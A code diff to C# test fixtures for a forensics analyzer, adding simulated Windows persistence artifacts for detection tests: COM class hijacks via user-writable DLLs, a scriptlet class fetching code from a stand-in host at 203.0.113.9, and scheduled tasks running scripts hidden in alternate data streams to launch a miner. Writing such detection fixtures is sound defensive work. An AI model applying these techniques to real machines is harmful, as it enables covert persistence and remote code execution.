@@ -1,6 +1,7 @@
 using System.Text;
 using Forensics.Analyzer.Risk;
 using Forensics.Parsers.Tests.Formats.Registry;
+using static Forensics.Analyzer.Tests.Detection.WindowsBaseHost;
 using static Forensics.Analyzer.Tests.Detection.WindowsStockHives;
 
 namespace Forensics.Analyzer.Tests.Detection;
@@ -12,6 +13,9 @@ internal static class WindowsMachinePlants
     private const string Dll = "/ProgramData/Vendor/host.dll";
     private const string Nssm = "/Program Files/nssm/nssm.exe";
     private const string Sessions = Set + @"Control\Session Manager";
+
+    private const string OfWindows = "{A6BA00FE-40E8-477C-B713-C64A14F18ADB}";
+    private const string UserDll = "/Users/alice/AppData/Roaming/Sync/sync.dll";
 
     private static readonly PlantedPe s_miner = WindowsTaskPlants.Miner;
     private static readonly PlantedPe s_signed = new() { Seed = "vendor", IsSigned = true };
@@ -54,8 +58,29 @@ internal static class WindowsMachinePlants
                 hive.Key(@"Microsoft\Active Setup\Installed Components\{2C7339CF-2B09-4501-B3F3-F3508C9228ED}").Expandable("StubPath", @"%SystemRoot%\system32\regsvr32.exe /s /n /i:/UserInstall %SystemRoot%\system32\themeui.dll");
                 hive.Key(Nt + @"AppCompatFlags\InstalledSDB\{11111111-2222-3333-4444-555555555555}").Text("DatabasePath", @"C:\Windows\AppPatch\Custom\{11111111-2222-3333-4444-555555555555}.sdb");
             })),
+            new("W-COM", "quiet-shadows-machine", PlantKind.Quiet, tree => Hives(tree.Pe(UserDll), software: Own, classes: hive => hive.Key($@"CLSID\{OfWindows}\InprocServer32").Text("", @"C:\Users\alice\AppData\Roaming\Sync\sync.dll"))) { Rule = "shadowed-class", Entries = [Classes] },
+            new("W-COM", "loud-treat-as", PlantKind.Loud, tree => Hives(tree.Pe(UserDll), software: Own, classes: hive => hive.Key($@"CLSID\{OfWindows}\TreatAs").Text("", "{11111111-2222-3333-4444-555555555555}"))) { Rule = "shadowed-class" },
+            new("W-COM", "quiet-server-in-odd-place", PlantKind.Quiet, tree => Hives(tree.Pe("/Users/Public/ext.dll"), software: hive => hive.Key(@"Classes\CLSID\{11111111-2222-3333-4444-555555555555}\InprocServer32").Text("", @"C:\Users\Public\ext.dll"))) { Rule = "foreign-server", Entries = [Software] },
+            new("W-COM", "quiet-assembly-in-odd-place", PlantKind.Quiet, tree => Hives(tree.Pe("/Users/Public/ext.dll"), software: hive => hive.Key(@"Classes\CLSID\{11111111-2222-3333-4444-555555555555}\InprocServer32").Text("", "mscoree.dll").Text("CodeBase", "file:///C:/Users/Public/ext.dll"))) { Rule = "foreign-server", Entries = [Software] },
+            new("W-COM", "loud-scriptlet-of-machine", PlantKind.Loud, tree => Hives(tree, software: hive => { hive.Key(@"Classes\CLSID\{11111111-2222-3333-4444-555555555555}\InprocServer32").Text("", @"C:\Windows\System32\scrobj.dll"); hive.Key(@"Classes\CLSID\{11111111-2222-3333-4444-555555555555}\ScriptletURL").Text("", "http://203.0.113.9/x.sct"); })) { Rule = "scriptlet" },
+            new("W-COM", "benign-vendors-both-ways", PlantKind.Benign, tree => Hives(tree.Pe("/Users/alice/AppData/Local/Zoom/zoom.dll", s_signed).Pe("/ProgramData/Microsoft/Windows Defender/Platform/4.18.1/MpOav.dll", s_signed), software: hive =>
+            {
+                Own(hive);
+                hive.Key(@"Classes\CLSID\{22222222-2222-3333-4444-555555555555}\InprocServer32").Text("", @"C:\Program Files\Zoom\zoom.dll");
+                hive.Key(@"Classes\CLSID\{2781761E-28E0-4109-99FE-B9D127C57AFE}\InprocServer32").Text("", "\"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.1\\MpOav.dll\"");
+                hive.Key(@"Classes\CLSID\{33333333-2222-3333-4444-555555555555}\LocalServer32").Expandable("", @"%SystemRoot%\System32\rundll32.exe /sta {33333333-2222-3333-4444-555555555555}");
+            }, classes: hive => hive.Key(@"CLSID\{22222222-2222-3333-4444-555555555555}\InprocServer32").Text("", @"C:\Users\alice\AppData\Local\Zoom\zoom.dll"))),
+            new("W-TASK", "quiet-class-of-miner", PlantKind.Quiet, tree => Hives(Task(tree.Pe(Dll, s_miner), "Sync", Handler, principal: "S-1-5-18"), software: hive => hive.Key($@"Classes\CLSID\{OfWindows}\InprocServer32").Text("", @"C:\ProgramData\Vendor\host.dll"))) { AtLeast = Severity.Critical, Entries = ["/Windows/System32/Tasks/Sync"] },
+            new("W-TASK", "quiet-class-of-user", PlantKind.Quiet, tree => Hives(Task(tree.Pe(UserDll, s_miner), "Sync", Handler, principal: @"WS01\alice"), software: Own, classes: hive => hive.Key($@"CLSID\{OfWindows}\InprocServer32").Text("", @"C:\Users\alice\AppData\Roaming\Sync\sync.dll"))) { AtLeast = Severity.Critical, Entries = ["/Windows/System32/Tasks/Sync"] },
+            new("W-TASK", "benign-class-of-windows", PlantKind.Benign, tree => Hives(Task(tree, "Sync", Handler, principal: "S-1-5-18"), software: Own)),
+            new("W-TASK", "loud-stream-with-script", PlantKind.Loud, tree => Task(tree.File("/ProgramData/readme.txt", "read me").File("/ProgramData/readme.txt:run.vbs", "Set s = CreateObject(\"WScript.Shell\")\r\ns.Run \"C:\\ProgramData\\Vendor\\host.exe\"\r\n").Pe(Vendor, s_miner), "Notes", Exec("wscript.exe", @"C:\ProgramData\readme.txt:run.vbs"))) { Rule = "target-odd-place" },
+            new("W-TASK", "loud-miner-behind-stream", PlantKind.Loud, tree => Task(tree.File("/ProgramData/readme.txt", "read me").File("/ProgramData/readme.txt:run.cmd", "@echo off\r\nC:\\ProgramData\\Vendor\\host.exe -s\r\n").Pe(Vendor, s_miner), "Notes", Exec("cmd.exe", @"/c C:\ProgramData\readme.txt:run.cmd"))) { AtLeast = Severity.Critical },
         }.Select(plant => plant with { Host = PlantHost.Windows }),
     ];
+
+    private static string Handler => $"<ComHandler><ClassId>{OfWindows}</ClassId></ComHandler>";
+
+    private static void Own(RegistryHiveWriter hive) => hive.Key($@"Classes\CLSID\{OfWindows}\InprocServer32").Expandable("", @"%SystemRoot%\system32\shell32.dll");
 
     private static void Wrapper(RegistryHiveWriter hive, string name, string application, string arguments, uint start = 2) =>
         Service(hive, name, @"C:\Program Files\nssm\nssm.exe", start).Key("Parameters").Expandable("Application", application).Expandable("AppParameters", arguments).Expandable("AppDirectory", application[..application.LastIndexOf('\\')]);
